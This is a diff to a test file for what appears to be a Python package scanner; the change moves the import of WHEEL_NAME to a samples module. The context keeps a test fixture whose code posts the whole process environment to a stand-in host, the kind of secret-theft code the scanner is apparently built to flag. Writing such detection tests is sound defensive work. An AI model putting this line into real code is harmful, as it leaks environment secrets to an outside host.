@@ -8,8 +8,9 @@ from dataclasses import replace
 
 import pytest
 
-from support.scan import WHEEL_NAME, a_wheel, finding_of, rules_of, scan_import, scan_sdist, scan_wheel, the_ruleset
+from support.scan import a_wheel, finding_of, rules_of, scan_import, scan_sdist, scan_wheel, the_ruleset
 from wheelmark.scan import Context, Report, ScanBounds, Severity, Verdict, scan_stream
+from wheelmark.scan.samples import WHEEL_NAME
 
 POST = "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))\n"
 
